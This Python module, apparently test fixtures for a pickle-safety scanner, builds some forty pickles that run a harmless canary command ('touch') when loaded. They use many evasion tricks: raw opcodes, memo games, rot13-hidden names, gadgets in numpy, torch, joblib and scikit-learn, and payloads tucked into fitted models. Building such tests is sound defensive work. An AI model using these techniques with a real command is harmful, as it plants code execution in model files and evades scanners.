"""Pickles that run a command when they are opened by pickle: each trick is a function of the command."""

import io
import marshal
import pickle
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

Trick = Callable[[Path], bytes]


def command(canary: Path) -> str:
    return f"touch {canary}"


def code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def text(value: str) -> bytes:
    data = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def plain_global(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def stacked_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + pickle.STACK_GLOBAL


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + pickle.MARK + b"".join(arguments) + pickle.TUPLE + pickle.REDUCE


def whole(*parts: bytes, protocol: int = 4) -> bytes:
    return pickle.PROTO + bytes([protocol]) + b"".join(parts) + pickle.STOP


class _Reduced:
    def __init__(self, function: Any, *arguments: Any) -> None:
        self.reduced = (function, arguments)

    def __reduce__(self) -> Any:
        return self.reduced


def reduced(function: Any, *arguments: Any) -> bytes:
    return pickle.dumps(_Reduced(function, *arguments))


def system(canary: Path) -> bytes:
    return whole(called(stacked_global("os", "system"), text(command(canary))))


def posix_system(canary: Path) -> bytes:
    return whole(called(stacked_global("posix", "system"), text(command(canary))))


def evaluated(canary: Path) -> bytes:
    return whole(called(stacked_global("builtins", "eval"), text(code(canary))))


def executed(canary: Path) -> bytes:
    return whole(called(stacked_global("builtins", "exec"), text(code(canary))))


def old_builtins(canary: Path) -> bytes:
    return whole(called(plain_global("__builtin__", "eval"), text(code(canary))), protocol=2)


def text_protocol(canary: Path) -> bytes:
    return f"cos\nsystem\n(S'{command(canary)}'\ntR.".encode()


def process(canary: Path) -> bytes:
    arguments = pickle.MARK + text("touch") + text(str(canary)) + pickle.LIST
    return whole(called(stacked_global("subprocess", "check_output"), arguments))


def getattr_chain(canary: Path) -> bytes:
    module = called(stacked_global("builtins", "__import__"), text("os"))
    function = called(stacked_global("builtins", "getattr"), module, text("system"))
    return whole(called(function, text(command(canary))))


def dotted_name(canary: Path) -> bytes:
    return whole(called(stacked_global("joblib.numpy_pickle", "os.system"), text(command(canary))))


def dotted_name_in_sklearn(canary: Path) -> bytes:
    return whole(called(stacked_global("sklearn.utils.fixes", "np.f2py.os.system"), text(command(canary))))


def inst_opcode(canary: Path) -> bytes:
    return whole(pickle.MARK + text(command(canary)) + pickle.INST + b"os\nsystem\n")


def obj_opcode(canary: Path) -> bytes:
    return whole(pickle.MARK + plain_global("os", "system") + text(command(canary)) + pickle.OBJ)


def extension_registry(canary: Path) -> bytes:
    number = 0xE7
    register = called(
        stacked_global("copyreg", "add_extension"),
        text("os"),
        text("system"),
        pickle.BININT1 + bytes([number]),
    )
    return whole(register, pickle.POP, called(pickle.EXT1 + bytes([number]), text(command(canary))))


def memoized_names(canary: Path) -> bytes:
    """The name's parts lie in the memo, put there as innocent text."""
    hidden = (
        text("os")
        + pickle.BINPUT
        + b"\x05"
        + text("system")
        + pickle.BINPUT
        + b"\x06"
        + pickle.TUPLE2
        + pickle.POP
    )
    found = pickle.BINGET + b"\x05" + pickle.BINGET + b"\x06" + pickle.STACK_GLOBAL
    return whole(hidden, called(found, text(command(canary))))


def memo_overwritten(canary: Path) -> bytes:
    """A slot of the memo is given another value between its two uses."""
    first = stacked_global("builtins", "list") + pickle.BINPUT + b"\x01" + pickle.POP
    second = stacked_global("os", "system") + pickle.BINPUT + b"\x01" + pickle.POP
    return whole(first, second, called(pickle.BINGET + b"\x01", text(command(canary))))


def computed_name(canary: Path) -> bytes:
    name = called(stacked_global("codecs", "decode"), text("flfgrz"), text("rot13"))
    return whole(called(text("os") + name + pickle.STACK_GLOBAL, text(command(canary))))


def partial(canary: Path) -> bytes:
    made = called(
        stacked_global("functools", "partial"), stacked_global("os", "system"), text(command(canary))
    )
    return whole(called(made))


def attribute_getter(canary: Path) -> bytes:
    getter = called(stacked_global("operator", "attrgetter"), text("system"))
    module = called(stacked_global("importlib", "import_module"), text("os"))
    return whole(called(called(getter, module), text(command(canary))))


def mapped(canary: Path) -> bytes:
    commands = pickle.MARK + text(command(canary)) + pickle.LIST
    lazy = called(stacked_global("builtins", "map"), stacked_global("os", "system"), commands)
    return whole(called(stacked_global("builtins", "list"), lazy))


def code_object(canary: Path) -> bytes:
    data = marshal.dumps(compile(code(canary), "x", "exec"))
    raw = pickle.BINBYTES + struct.pack("<I", len(data)) + data
    function = called(
        stacked_global("types", "FunctionType"),
        called(stacked_global("marshal", "loads"), raw),
        pickle.EMPTY_DICT,
    )
    return whole(called(function))


def numpy_runstring(canary: Path) -> bytes:
    return whole(
        called(
            stacked_global("numpy.testing._private.utils", "runstring"), text(code(canary)), pickle.EMPTY_DICT
        )
    )


def numpy_eval(canary: Path) -> bytes:
    return whole(called(stacked_global("numpy.f2py.crackfortran", "myeval"), text(f"print({code(canary)})")))


def module_import(canary: Path) -> bytes:
    """Importing is enough: the module's own lines run."""
    (canary.parent / "imported_by_name.py").write_text(code(canary))
    return whole(called(stacked_global("importlib", "import_module"), text("imported_by_name")))


def numpy_load(canary: Path) -> bytes:
    import numpy

    inner = canary.parent / "inner.npy"
    numpy.save(inner, numpy.array([_Reduced(exec, code(canary))], dtype=object), allow_pickle=True)
    return whole(called(stacked_global("numpy", "load"), text(str(inner)), pickle.NONE, pickle.NEWTRUE))


def joblib_load(canary: Path) -> bytes:
    inner = canary.parent / "inner.pkl"
    inner.write_bytes(system(canary))
    return whole(called(stacked_global("joblib.numpy_pickle", "load"), text(str(inner))))


def pandas_load(canary: Path) -> bytes:
    inner = canary.parent / "inner.pkl"
    inner.write_bytes(system(canary))
    return whole(called(stacked_global("pandas", "read_pickle"), text(str(inner))))


def torch_source(canary: Path) -> bytes:
    function = stacked_global("torch.fx.graph_module", "_exec_with_source")
    return whole(called(function, text(code(canary)), pickle.EMPTY_DICT))


def sklearn_helper(canary: Path) -> bytes:
    """A class of scikit-learn's neighbourhood that calls what it is given."""
    task = pickle.MARK + stacked_global("os", "system") + pickle.MARK + text(command(canary)) + pickle.TUPLE
    items = pickle.MARK + task + pickle.EMPTY_DICT + pickle.TUPLE + pickle.LIST
    batch = called(
        stacked_global("joblib.parallel", "BatchedCalls"),
        items,
        called(stacked_global("joblib._parallel_backends", "SequentialBackend")),
    )
    return whole(called(batch))


def profiled(canary: Path) -> bytes:
    return whole(
        called(stacked_global("cProfile", "run"), text(code(canary)), text(str(canary) + ".profile"))
    )


def run_path(canary: Path) -> bytes:
    script = canary.parent / "script.py"
    script.write_text(code(canary))
    return whole(called(stacked_global("runpy", "run_path"), text(str(script))))


def filled_setstate(canary: Path) -> bytes:
    """BUILD gives an object a ``__setstate__`` of its own, and the next BUILD calls it."""
    target = stacked_global("collections", "UserList") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    state = pickle.EMPTY_DICT + text("__setstate__") + stacked_global("os", "system") + pickle.SETITEM
    return whole(target, state, pickle.BUILD, text(command(canary)), pickle.BUILD)


def nested(canary: Path) -> bytes:
    """Hidden within lists and dicts."""
    inner = called(stacked_global("os", "system"), text(command(canary)))
    return whole(
        pickle.EMPTY_LIST,
        pickle.EMPTY_DICT,
        text("a"),
        pickle.EMPTY_LIST,
        inner,
        pickle.APPEND,
        pickle.SETITEM,
        pickle.APPEND,
    )


def in_a_model(canary: Path) -> bytes:
    """A real fitted model with one attribute too many."""
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    model.extra_ = _Reduced(exec, code(canary))
    return pickle.dumps(model)


def in_a_joblib_model(canary: Path) -> bytes:
    import joblib
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    model.extra_ = _Reduced(exec, code(canary))
    return _dumped(joblib.dump, model)


def in_a_joblib_object_array(canary: Path) -> bytes:
    """joblib opens object arrays by a second unpickler."""
    import joblib
    import numpy

    return _dumped(joblib.dump, {"rows": numpy.array([1, _Reduced(exec, code(canary))], dtype=object)})


def behind_a_joblib_array(canary: Path) -> bytes:
    import joblib
    import numpy

    return _dumped(joblib.dump, [numpy.arange(1000.0), _Reduced(exec, code(canary))])


def compressed(method: str) -> Trick:
    def trick(canary: Path) -> bytes:
        import joblib

        return _dumped(joblib.dump, {"model": _Reduced(exec, code(canary))}, compress=(method, 3))

    return trick


def _dumped(dump: Any, value: Any, **options: Any) -> bytes:
    file = io.BytesIO()
    dump(value, file, **options)
    return file.getvalue()


TRICKS: dict[str, Trick] = {
    trick.__name__: trick
    for trick in (
        system, posix_system, evaluated, executed, old_builtins, text_protocol, process, getattr_chain,
        dotted_name, dotted_name_in_sklearn, inst_opcode, obj_opcode, extension_registry, memoized_names,
        memo_overwritten, computed_name, partial, attribute_getter, mapped, code_object, numpy_runstring,
        numpy_eval, module_import, numpy_load, joblib_load, pandas_load, torch_source, sklearn_helper,
        profiled, run_path, filled_setstate, nested, in_a_model, in_a_joblib_model, in_a_joblib_object_array,
        behind_a_joblib_array,
    )
} | {f"joblib_{method}": compressed(method) for method in ("zlib", "gzip", "bz2", "xz", "lzma")}  # fmt: skip
